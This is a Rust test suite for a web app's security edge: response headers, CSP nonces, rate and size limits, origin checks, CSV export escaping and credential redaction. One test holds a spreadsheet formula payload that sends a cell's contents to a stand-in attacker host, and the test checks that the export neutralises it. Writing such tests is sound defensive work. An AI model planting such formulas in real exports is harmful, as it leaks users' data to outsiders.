//! The web edge: security headers on every kind of response, the CSP nonce,
//! the limits (413, 408, 429), the same-origin check against the public URL,
//! the CSV export's formula cells, and credentials kept off `/settings`.

use crate::helpers::{
    public_url, sample_review, spawn_app, spawn_app_with, TestApp, LEE, PATIENCE, ROOT,
};
use crate::http::{open_stream, Reply, ScratchDir};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn cookie(app: &TestApp) -> Option<String> {
    app.cookie.lock().expect("cookie lock").clone()
}

async fn get(app: &TestApp, path: &str) -> Reply {
    app.http
        .get(&format!("{}{path}", app.base), cookie(app).as_deref())
        .await
}

async fn post(app: &TestApp, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
    let cookie = cookie(app);
    let mut all = vec![("content-type", "application/x-www-form-urlencoded")];
    all.extend(cookie.as_deref().map(|c| ("cookie", c)));
    all.extend_from_slice(headers);
    app.http
        .send_with(
            "POST",
            &format!("{}{path}", app.base),
            &all,
            body.to_owned(),
        )
        .await
}

/// The headers every response must carry, whatever answered it.
fn assert_secured(what: &str, reply: &Reply) {
    let csp = reply.header("content-security-policy");
    for directive in [
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "script-src 'self' 'nonce-",
        "'wasm-unsafe-eval'",
    ] {
        assert!(
            csp.contains(directive),
            "{what}: {directive} missing in {csp:?}"
        );
    }
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert_eq!(reply.header("x-frame-options"), "DENY", "{what}");
    assert_eq!(reply.header("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(reply.header("referrer-policy"), "no-referrer", "{what}");
    assert_eq!(
        reply.header("strict-transport-security"),
        "",
        "{what}: no HSTS over plain http"
    );
}

fn nonce_of(reply: &Reply) -> String {
    let csp = reply.header("content-security-policy");
    let start = csp.find("'nonce-").expect("a nonce") + "'nonce-".len();
    csp[start..]
        .split('\'')
        .next()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn every_kind_of_response_carries_the_security_headers() {
    let site = ScratchDir::new();
    std::fs::create_dir_all(site.path().join("pkg")).unwrap();
    std::fs::write(site.path().join("pkg/signoff.css"), "body{}").unwrap();
    let root = site.path().to_path_buf();
    let app = spawn_app_with(move |args| args.site_root = root).await;

    let page = get(&app, "/").await;
    assert_eq!(page.status, 200, "{}", page.body);
    let server_fn = post(&app, "/api/queue", &[], "query=").await;
    assert_eq!(server_fn.status, 200, "{}", server_fn.body);
    let not_found = get(&app, "/no-such-page").await;
    assert_eq!(not_found.status, 404);
    let forbidden = post(
        &app,
        "/api/decide",
        &[("origin", "https://evil.example")],
        "id=x",
    )
    .await;
    assert_eq!(forbidden.status, 403);
    let static_file = get(&app, "/pkg/signoff.css").await;
    assert_eq!(static_file.status, 200);
    let health = get(&app, "/healthz").await;
    assert_eq!(health.status, 200);
    let login = get(&app, "/auth/login").await;
    assert!(matches!(login.status, 303 | 503), "{}", login.status);
    app.sign_out();
    let signed_out = get(&app, "/reviews/abc").await;
    assert_eq!(signed_out.status, 303);

    let replies = [
        ("page", &page),
        ("server function", &server_fn),
        ("404", &not_found),
        ("403", &forbidden),
        ("static file", &static_file),
        ("health", &health),
        ("sign-in redirect", &login),
        ("signed-out redirect", &signed_out),
    ];
    for (what, reply) in replies {
        assert_secured(what, reply);
        if what == "static file" {
            assert_eq!(reply.header("cache-control"), "no-cache", "{what}");
        } else {
            assert_eq!(reply.header("cache-control"), "no-store", "{what}");
        }
    }
    app.stop().await;
}

#[tokio::test]
async fn https_deployments_get_hsts() {
    let app = spawn_app_with(|args| args.public_url = "https://signoff.example.com".into()).await;
    let health = get(&app, "/healthz").await;
    assert_eq!(
        health.header("strict-transport-security"),
        "max-age=31536000"
    );
    app.stop().await;
}

#[tokio::test]
async fn each_page_gets_its_own_nonce_on_every_inline_script() {
    let app = spawn_app().await;
    let (_, id) = app.new_review(&sample_review(), &json!({})).await;
    let mut nonces = Vec::new();
    for path in ["/", "/", &format!("/reviews/{id}"), "/no-such-page"] {
        let reply = get(&app, path).await;
        let nonce = nonce_of(&reply);
        assert!(nonce.len() >= 16, "{path}: {nonce:?}");
        let html = &reply.body;
        let scripts: Vec<&str> = html.split("<script").skip(1).collect();
        assert!(!scripts.is_empty(), "{path} has the hydration script");
        for script in scripts {
            let tag = script.split('>').next().unwrap_or_default();
            assert!(
                tag.contains(&format!("nonce=\"{nonce}\"")),
                "{path}: a script without this response's nonce: <script{tag}>"
            );
        }
        let lowered = html.to_ascii_lowercase();
        for handler in [
            " onclick=",
            " onload=",
            " onerror=",
            " onsubmit=",
            " onchange=",
        ] {
            assert!(
                !lowered.contains(handler),
                "{path}: inline handler {handler}"
            );
        }
        nonces.push(nonce);
    }
    assert_ne!(nonces[0], nonces[1], "the same page twice, two nonces");
    app.stop().await;
}

#[tokio::test]
async fn an_oversized_request_is_413() {
    let app = spawn_app_with(|args| args.edge.max_body_bytes = 2_000).await;
    let comment = "x".repeat(3_000);
    let reply = post(
        &app,
        "/api/decide",
        &[],
        &format!("id=x&verdict=approve&comment={comment}"),
    )
    .await;
    assert_eq!(reply.status, 413, "{}", reply.body);
    let error: Value = serde_json::from_str(&reply.body).expect("the page's error");
    assert_eq!(
        error,
        json!({"Refused": "This request is too large for Signoff."})
    );
    assert_secured("413", &reply);
    let small = post(&app, "/api/decide", &[], "id=x&verdict=approve&comment=").await;
    assert_eq!(small.status, 404, "a small one reaches the function");
    app.stop().await;
}

#[tokio::test]
async fn a_body_that_never_arrives_is_408() {
    let app = spawn_app_with(|args| args.edge.request_timeout_seconds = 1).await;
    let cookie = cookie(&app).expect("signed in");
    let address = app.base.trim_start_matches("http://");
    let mut socket = tokio::net::TcpStream::connect(address).await.unwrap();
    let head = format!(
        "POST /api/decide HTTP/1.1\r\nhost: {address}\r\ncookie: {cookie}\r\n\
         content-type: application/x-www-form-urlencoded\r\ncontent-length: 100\r\n\r\nid=x&verd"
    );
    socket.write_all(head.as_bytes()).await.unwrap();
    // The rest of the body never comes; the server answers on its own.
    let mut answer = Vec::new();
    let mut buffer = [0u8; 4096];
    let answered = tokio::time::timeout(PATIENCE, async {
        while !String::from_utf8_lossy(&answer).contains("Refused") {
            let read = socket.read(&mut buffer).await.unwrap();
            if read == 0 {
                break;
            }
            answer.extend_from_slice(&buffer[..read]);
        }
    })
    .await;
    assert!(answered.is_ok(), "the server waited for the body for ever");
    let answer = String::from_utf8_lossy(&answer).to_ascii_lowercase();
    assert!(answer.starts_with("http/1.1 408"), "{answer}");
    assert!(answer.contains("took too long"), "{answer}");
    assert!(answer.contains("frame-ancestors 'none'"), "{answer}");
    app.stop().await;
}

#[tokio::test]
async fn too_many_sign_ins_from_one_address_are_429() {
    let app = spawn_app_with(|args| args.edge.logins_per_minute = 3).await;
    app.sign_out();
    for _ in 0..3 {
        let reply = get(&app, "/auth/login").await;
        assert_ne!(reply.status, 429);
    }
    let refused = get(&app, "/auth/login?return_to=%2F").await;
    assert_eq!(refused.status, 429, "{}", refused.body);
    let wait: u64 = refused.header("retry-after").parse().expect("Retry-After");
    assert!((1..=60).contains(&wait), "{wait}");
    assert!(
        refused.body.contains("Too many requests"),
        "{}",
        refused.body
    );
    assert_secured("429", &refused);
    let other = get(&app, "/auth/signed-out").await;
    assert_eq!(other.status, 200, "only sign-in is limited");
    app.stop().await;
}

#[tokio::test]
async fn too_many_decisions_from_one_address_are_429() {
    let app = spawn_app_with(|args| args.edge.decisions_per_minute = 2).await;
    assert_eq!(app.decide("x", "approve", "").await.0, 404);
    let (status, _) = app
        .call(
            "decide_many",
            &[("ids[0]", "x"), ("verdict", "approve"), ("comment", "")],
        )
        .await;
    assert_ne!(status, 429, "bulk and single share the allowance");
    let reply = post(&app, "/api/decide", &[], "id=x&verdict=approve&comment=").await;
    assert_eq!(reply.status, 429, "{}", reply.body);
    assert!(!reply.header("retry-after").is_empty());
    let error: Value = serde_json::from_str(&reply.body).expect("the page's error");
    assert!(
        error["Refused"]
            .as_str()
            .is_some_and(|m| m.starts_with("Too many requests")),
        "{error}"
    );
    assert_eq!(
        app.call(
            "decide_many",
            &[("ids[0]", "x"), ("verdict", "approve"), ("comment", "")]
        )
        .await
        .0,
        429
    );
    assert_eq!(
        app.call("queue", &[("query", "")]).await.0,
        200,
        "reading is not limited"
    );
    app.stop().await;
}

#[tokio::test]
async fn a_session_holds_a_limited_number_of_live_streams() {
    let app = spawn_app_with(|args| args.edge.streams_per_session = 2).await;
    let url = format!("{}/api/events", app.base);
    let mine = cookie(&app).expect("signed in");
    let first = open_stream(&url, &mine).await;
    let second = open_stream(&url, &mine).await;
    assert_eq!(
        (first.status().as_u16(), second.status().as_u16()),
        (200, 200)
    );
    let third = open_stream(&url, &mine).await;
    assert_eq!(third.status(), 429);
    assert!(third.headers().contains_key("content-security-policy"));
    app.sign_in_as(LEE).await;
    let someone_else = open_stream(&url, &cookie(&app).expect("signed in")).await;
    assert_eq!(someone_else.status(), 200, "the limit is per session");
    drop((first, second, someone_else));
    app.stop().await;
}

#[tokio::test]
async fn writes_are_judged_against_the_public_url_not_the_host() {
    let app = spawn_app().await;
    let public = public_url();
    let ours = post(
        &app,
        "/api/queue",
        &[("origin", &public), ("sec-fetch-site", "same-origin")],
        "query=",
    )
    .await;
    assert_eq!(ours.status, 200, "{}", ours.body);
    let no_referrer = post(
        &app,
        "/api/queue",
        &[("origin", "null"), ("sec-fetch-site", "same-origin")],
        "query=",
    )
    .await;
    assert_eq!(no_referrer.status, 200, "{}", no_referrer.body);
    // The server's own address is what `Host` says, but not the public URL.
    let host = post(&app, "/api/queue", &[("origin", &app.base)], "query=").await;
    assert_eq!(host.status, 403, "{}", host.body);
    let typed = post(&app, "/api/queue", &[("sec-fetch-site", "none")], "query=").await;
    assert_eq!(typed.status, 403, "{}", typed.body);
    let referer = post(
        &app,
        "/api/queue",
        &[("referer", "https://evil.example/x")],
        "query=",
    )
    .await;
    assert_eq!(referer.status, 403, "{}", referer.body);
    app.stop().await;
}

#[tokio::test]
async fn the_csv_export_never_carries_a_live_formula() {
    let app = spawn_app().await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
    // An action Signoff does not write: the filter below finds only this.
    let entry = app::ssr::ports::AuditRecord {
        action: "note".into(),
        ..app::ssr::ports::AuditRecord::system(
            1_795_000_000_000,
            app::domain::audit_action::Action::Received,
            None,
            Some(formula.into()),
        )
    };
    app.store().record(&entry).await.unwrap();
    app.sign_in_as(LEE).await;
    let csv = get(&app, "/audit/export.csv?action=note").await;
    assert_eq!(csv.status, 200);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.body.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record"))
        .collect();
    assert_eq!(rows.len(), 1, "{}", csv.body);
    let detail = csv::Reader::from_reader(csv.body.as_bytes())
        .headers()
        .expect("a header row")
        .iter()
        .position(|name| name == "detail")
        .expect("a detail column");
    assert_eq!(&rows[0][detail], format!("'{formula}"));
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    let jsonl = get(&app, "/audit/export.jsonl?action=note").await;
    let line: Value = serde_json::from_str(jsonl.body.trim()).unwrap();
    assert_eq!(line["detail"], formula, "JSON Lines keep the exact text");
    app.stop().await;
}

#[tokio::test]
async fn settings_show_no_credentials_in_urls() {
    let app = spawn_app_with(|args| {
        args.oidc.issuer = "http://signoff:issuer-password@127.0.0.1:9/realm".into();
        args.public_url = public_url().replace("http://", "http://signoff:public-password@");
    })
    .await;
    app.sign_in_as(ROOT).await;
    let (status, settings) = app.call("settings", &[]).await;
    assert_eq!(status, 200, "{settings}");
    let shown = settings.to_string();
    assert!(!shown.contains("issuer-password"), "{shown}");
    assert!(!shown.contains("public-password"), "{shown}");
    assert_eq!(settings["oidc_issuer"], "http://signoff@127.0.0.1:9/realm");
    app.stop().await;
}

#[tokio::test]
async fn settings_list_the_notification_routes_and_channels_without_keys() {
    let (_dir, config) = crate::helpers::config_file(
        "[[notify.route]]\nname = \"prod-reviewers\"\nstages = [\"production\"]\n\
         events = [\"arrived\", \"reminder\"]\nslack = [\"C0REVIEWS\"]\n\
         webhook = [{ url = \"https://hooks.example.com/in?sig=hook-key\", secret_env = \"HOOK_SECRET\" }]\n",
    );
    let app = spawn_app_with(|args| {
        args.config = Some(config);
        args.notify.slack_bot_token = Some(server::config::Secret("xoxb-bot-token".into()));
        args.notify.smtp_url = Some("smtp://signoff:smtp-password@127.0.0.1:9".into());
        args.notify.email_from = Some("signoff@example.com".into());
    })
    .await;
    app.sign_in_as(ROOT).await;
    let (status, settings) = app.call("settings", &[]).await;
    assert_eq!(status, 200, "{settings}");
    let notifications = &settings["notifications"];
    assert_eq!(notifications["routes"][0][0], "prod-reviewers");
    assert_eq!(
        notifications["routes"][0][1],
        "any state machine; any model; stage production → arrived, reminder: slack:C0REVIEWS, \
         webhook:https://hooks.example.com/in"
    );
    assert_eq!(notifications["requesters_told"], true);
    assert_eq!(notifications["slack_decisions"], false);
    let shown = settings.to_string();
    for secret in ["hook-key", "smtp-password", "xoxb-bot-token"] {
        assert!(!shown.contains(secret), "{secret} in {shown}");
    }
    assert!(
        shown.contains("e-mail through smtp://signoff@127.0.0.1:9 from signoff@example.com"),
        "{shown}"
    );
    let page = app.page("/settings").await;
    assert!(page.contains("prod-reviewers"), "the page lists the route");
    assert!(!page.contains("hook-key") && !page.contains("smtp-password"));
    app.stop().await;
}
